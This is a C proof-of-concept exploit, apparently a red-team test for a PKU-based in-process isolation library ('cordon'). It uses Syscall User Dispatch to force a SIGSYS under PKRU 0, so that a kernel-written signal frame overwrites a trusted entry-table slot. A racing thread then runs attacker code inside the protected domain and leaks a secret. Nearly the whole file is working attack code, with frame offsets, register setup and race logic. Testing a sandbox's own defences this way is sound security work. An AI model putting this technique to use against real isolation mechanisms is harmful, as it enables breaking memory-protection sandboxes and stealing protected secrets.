// Syscall User Dispatch (prctl PR_SET_SYSCALL_USER_DISPATCH) raises SIGSYS
// at *any* system call instruction of the thread, without seccomp and
// without anybody "sending" a signal. The filter does not refuse the prctl.
//
// 6.1 (frames written with the interrupted PKRU): the attacker thread turns
// dispatch on for every address, then jumps to a gate's exit WRPKRU with
// EAX = 0. PKRU 0 (every key open) is loaded, the check fails and the fatal
// path's first instruction is a system call (rt_sigprocmask): dispatched, a
// SIGSYS, and SIGSYS has a handler after lockdown (the violation handler,
// kill mode). The kernel writes the frame under PKRU 0 at the attacker's
// stack pointer: the stack pointer is chosen so that a saved register holds
// &evil and lands exactly on the trusted entry table's slot of a registered
// entry. The violation handler then faults on its stack (trusted memory) and
// the process dies, but a second thread that keeps calling that entry
// through its gate gets there first: evil() runs inside the domain, with
// its PKRU, reads the secret and copies it into a MAP_SHARED page. The
// parent (the process before fork) compares it with the secret's hash.
//
// 6.12: the frame goes to the runtime's alternate stack (SA_ONSTACK), so
// the table is not written; see sud_suppress.c for what dispatch does there.
//
//   tools/cordon-pku-run --kernel 6.1 --cpus 2 -- build/redteam/sud_frame [attempts]
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef PR_SET_SYSCALL_USER_DISPATCH
#define PR_SET_SYSCALL_USER_DISPATCH 59
#define PR_SYS_DISPATCH_ON 1
#endif

extern unsigned char cordon_gate_config[];

static cordon_entry g_gen, g_hash;
static uint8_t* g_secret;  // trusted pointer, never dereferenced untrusted

struct shared {
  volatile int leaked;
  volatile int racer_ready;
  volatile uint64_t pkru_in_evil;
  uint8_t bytes[32];
};
static struct shared* g_sh;

static uint64_t fnv(const uint8_t* p, size_t n) {
  uint64_t h = 1469598103934665603ull;
  for (size_t i = 0; i < n; i++) h = (h ^ p[i]) * 1099511628211ull;
  return h;
}
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(32, &p) != 0) return 0;
  if (getrandom(p, 32, 0) != 32) return 0;
  return (uint64_t)p;
}
static uint64_t e_hash(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return fnv(g_secret, 32);
}

// Untrusted code of the attacker's. Reached through the overwritten table
// slot, it runs with the domain's PKRU on the racer's trusted stack.
static uint64_t evil(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  uint32_t pkru;
  __asm__ volatile("xor ecx, ecx\n rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  g_sh->pkru_in_evil = pkru;
  for (int i = 0; i < 32; i++) g_sh->bytes[i] = g_secret[i];  // a trusted read
  __atomic_store_n(&g_sh->leaked, 1, __ATOMIC_RELEASE);
  return 0x1337;
}

static void* racer(void* arg) {
  (void)arg;
  cordon_call(g_hash, 0, 0, 0, 0, 0);  // attach
  g_sh->racer_ready = 1;
  for (;;) cordon_call(g_hash, 0, 0, 0, 0, 0);
  return 0;
}

static uint64_t g_R, g_site, g_evil;

static int attempt(void) {
  pthread_t t;
  pthread_create(&t, 0, racer, 0);
  while (!g_sh->racer_ready) {}
  // From here every system call of this thread raises SIGSYS (no region
  // is exempt, no selector).
  if (syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_ON, 0, 0, 0) != 0) {
    perror("PR_SET_SYSCALL_USER_DISPATCH");
    _exit(3);
  }
  register uint64_t r asm("r12") = g_R;
  register uint64_t s asm("r13") = g_site;
  register uint64_t ev asm("r14") = g_evil;
  __asm__ volatile(
      "mov r8, r14\n mov r9, r14\n mov r15, r14\n mov rbp, r14\n mov rbx, r14\n"
      "xor eax, eax\n xor ecx, ecx\n xor edx, edx\n"
      "mov rsp, r12\n jmp r13\n" ::"r"(r), "r"(s), "r"(ev) : "memory");
  return 0;
}

int main(int argc, char** argv) {
  int tries = argc > 1 ? atoi(argv[1]) : 20;
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) { printf("init failed\n"); return 1; }
  cordon_domain_t dom = cordon_trusted_domain();
  cordon_register(dom, e_gen, "gen", &g_gen);
  cordon_register(dom, e_hash, "hash", &g_hash);
  g_secret = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  printf("secret at %p, fnv (computed by trusted code) %016llx\n", g_secret, (unsigned long long)want);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }

  const unsigned char* cfg = cordon_gate_config;
  const unsigned char* d1 = cfg + 64 + 64 * 1;
  const uint64_t table = *(const uint64_t*)(d1 + 24);
  const uint64_t region_start = *(const uint64_t*)(d1 + 48);
  const uint32_t xs = *(const uint32_t*)(cfg + 20);
  const uint64_t slot = table + 8ull * g_hash.id;
  // Offsets in the 6.1 x86-64 rt_sigframe of registers this program sets
  // (r8 r9 r14 r15 rbp rbx); the frame's start F is always 56 mod 64.
  const int offs[] = {48, 56, 96, 104, 128, 136};
  uint64_t F = 0;
  for (int i = 0; i < 6; i++) {
    uint64_t f = slot - offs[i];
    if (f % 64 == 56 && f >= region_start) { F = f; break; }
  }
  if (F == 0) { printf("no register slot fits entry id %u\n", g_hash.id); return 1; }
  const uint64_t fx = F + 456;  // the XSAVE area, 64-aligned
  g_R = fx + 128 + xs + 4;
  for (size_t i = 0; i < cordon_gate_site_count(); i++) {
    cordon_gate_site s;
    if (cordon_gate_site_get(i, &s) == 0 && s.kind == 2 && s.domain == dom) { g_site = s.address; break; }
  }
  g_evil = (uint64_t)evil;
  printf("table %#llx, slot of entry %u at %#llx, frame at %#llx, rsp %#llx, exit WRPKRU at %#llx, xstate %u\n",
         (unsigned long long)table, g_hash.id, (unsigned long long)slot, (unsigned long long)F,
         (unsigned long long)g_R, (unsigned long long)g_site, xs);
  fflush(stdout);
  g_sh = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (g_sh == MAP_FAILED) { perror("mmap"); return 1; }
  for (int i = 0; i < tries; i++) {
    memset((void*)g_sh, 0, sizeof *g_sh);
    pid_t c = fork();
    if (c == 0) _exit(attempt());
    int st;
    waitpid(c, &st, 0);
    printf("attempt %d: child %s %d, evil ran: %s\n", i, WIFSIGNALED(st) ? "killed by signal" : "exited",
           WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st), g_sh->leaked ? "yes" : "no");
    if (g_sh->leaked) {
      printf("evil() ran with PKRU %#llx (untrusted is %#x)\nleaked: ", (unsigned long long)g_sh->pkru_in_evil,
             *(const uint32_t*)cfg);
      for (int k = 0; k < 32; k++) printf("%02x", g_sh->bytes[k]);
      const uint64_t got = fnv(g_sh->bytes, 32);
      printf("\nfnv of leaked bytes %016llx: %s\n", (unsigned long long)got,
             got == want ? "SECRET LEAKED" : "no match");
      return got == want ? 0 : 1;
    }
    fflush(stdout);
  }
  return 1;
}
